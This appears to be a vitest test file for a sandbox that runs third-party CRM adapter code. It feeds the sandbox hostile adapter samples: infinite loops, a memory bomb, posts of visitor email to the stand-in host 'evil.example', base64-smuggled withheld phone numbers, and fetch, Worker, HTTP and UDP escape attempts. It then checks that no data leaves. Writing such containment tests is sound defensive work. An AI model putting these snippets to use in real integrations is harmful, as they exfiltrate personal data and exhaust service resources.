import { afterEach, describe, expect, test } from 'vitest';
import { openRecorder } from '../../support/recorder.ts';
import { about, count, openChat, openStage, type Stage, until } from './stage.ts';

let stage: Stage;
afterEach(() => stage.close());

const any = '{ safeParse: (data) => ({ success: true, data }) }';
const upsert = '/crm/v3/objects/contacts/batch/upsert';
/** A whole script of an adapter whose handler is `body`. */
const script = (body: string) =>
  `globalThis.adapter = { on: { CustomerRelationshipManagement: async (visitor, partner) => { ${body} } } };`;
const post = (path: string, body: string) => `await partner.post('${path}', { body: ${body}, returns: ${any} });`;

const evil: Record<string, [body: string, cause: string]> = {
  'an endless loop': ['for (;;) {}', 'The add-on took too long; nothing was sent.'],
  'a promise that never ends': ['await new Promise(() => {});', 'The add-on'],
  'a memory bomb': ["let s = 'x'; for (;;) s += s;", 'The add-on'],
  'an undeclared field, by its name': [
    `if (visitor.phone === undefined) throw new Error('absent'); ${post(upsert, '{ p: visitor.phone }')}`,
    'The add-on failed; nothing was sent.',
  ],
  'a path off its list': [
    post('/crm/v3/objects/contacts/search', '{ e: visitor.email }'),
    'The add-on asked for an address it did not declare; it was stopped.',
  ],
  'a host of its own': [post('//evil.example/crm', '{ e: visitor.email }'), 'The add-on failed; nothing was sent.'],
  'a withheld value it guessed, plain': [
    post(upsert, `{ e: visitor.email, p: '${about.phone.slice(0, 9)}' + '${about.phone.slice(9)}' }`),
    'The add-on tried to send the phone, which stays; it was stopped.',
  ],
  'a withheld value in base64': [
    post(upsert, `{ e: visitor.email, p: '${Buffer.from(about.phone).toString('base64')}' }`),
    'The add-on tried to send the phone, which stays; it was stopped.',
  ],
  'a return without any call': ["return { record: '1' };", 'The add-on ended without sending it.'],
  'words of its own in an error': [
    `throw new Error(visitor.email + ' is on fire');`,
    'The add-on failed; nothing was sent.',
  ],
};

describe('R82 R85 an adapter that means harm, inside the whole hub', () => {
  test.each(Object.entries(evil))(
    'R85 R5 %s: nothing leaves, share and connection say it in plain words, the hub answers meanwhile',
    async (_, [body, cause]) => {
      stage = await openStage({ code: { hubspot: script(body) } });
      const ada = await openChat(stage);
      await ada.answer({ email: 'yes', phone: 'no' });
      await ada.press();
      // A hub whose own thread stood still would not answer at all.
      for (let i = 0; i < 5; i++) {
        expect((await ada.message(`word ${i}`)).status).toBe(201);
      }
      await stage.door.hub.deps.runner.idle();
      expect(stage.recorder.calls).toEqual([]);
      const line = await ada.lastShare();
      expect(line?.state).toBe('failed');
      expect(line?.cause).toContain(cause);
      expect(JSON.stringify(line) + stage.door.logged()).not.toMatch(/on fire|ada@brandt|20 55 04/);
      const page = (await (await stage.maria.get(`/console/connections/${stage.integration}`)).text()).replace(
        /<[^>]+>/g,
        '',
      );
      expect(page).toContain(line?.cause);
      expect(page).toContain('Has trouble');
      expect(
        stage.door.store.read
          .hot('select state from outcome')
          .all()
          .every((r) => r.state !== 'sent'),
      ).toBe(true);
    },
    40_000,
  );

  test('GATE-48 node:http, fetch, a worker and UDP: inside the sandbox the names do not exist, zero bytes', async () => {
    const ways = [
      'fetch(at)',
      'new Worker(at)',
      'require("node:http").get(at)',
      'require("node:dgram").createSocket()',
    ];
    const tries = [...ways, 'await import("node:http")', 'await import("node:dgram")'].map(
      (way) => `try { ${way}; } catch {}`,
    );
    const recorder = await openRecorder();
    stage = await openStage({
      recorder,
      code: {
        hubspot: script(`const at = '${recorder.origin}/' + visitor.email; ${tries.join(' ')} return { record: '1' };`),
      },
    });
    const ada = await openChat(stage);
    await ada.answer({ email: 'yes' });
    const before = stage.recorder.connections();
    await ada.send();
    expect((await ada.lastShare())?.cause).toBe('The add-on ended without sending it.');
    // Egress made its own connection ready; nothing was said on it, and nobody else made one.
    expect(stage.recorder.connections() - before).toBeLessThanOrEqual(1);
    expect([stage.recorder.calls, stage.recorder.tokenCalls]).toEqual([[], []]);
  });

  test('R85 while one person’s delivery loops for ever, another’s goes through', async () => {
    const honest = `${post(upsert, '{ inputs: [{ id: visitor.email, idProperty: "email", properties: {} }] }')} return { record: '1' };`;
    stage = await openStage({
      code: { hubspot: script(`if (visitor.email.startsWith('loop')) for (;;) {} ${honest}`) },
    });
    const bad = await openChat(stage, { email: 'loop@brandt.example' });
    const good = await openChat(stage);
    for (const chat of [bad, good]) await chat.answer({ email: 'yes' });
    await bad.press();
    await good.press();
    await until('the other one left', async () => (await good.lastShare())?.state === 'sent', 1_900);
    expect((await bad.lastShare())?.state).toBe('waiting');
    await stage.door.hub.deps.runner.idle();
    expect((await bad.lastShare())?.state).toBe('failed');
    expect(stage.recorder.calls).toHaveLength(1);
  });

  test('R85 nothing of one person is left for the next: a global that was kept is gone', async () => {
    stage = await openStage({
      code: {
        hubspot: script(
          `const before = String(globalThis.kept ?? 'nobody'); globalThis.kept = visitor.email; ${post(upsert, '{ inputs: [], before }')} return {};`,
        ),
      },
    });
    for (const email of ['first@brandt.example', 'second@brandt.example']) {
      const chat = await openChat(stage, { email });
      await chat.answer({ email: 'yes' });
      await chat.send();
    }
    expect(stage.recorder.calls.map((c) => JSON.parse(c.body).before)).toEqual(['nobody', 'nobody']);
    expect(count(stage.door, 'disclosure')).toBe(2);
  });
});
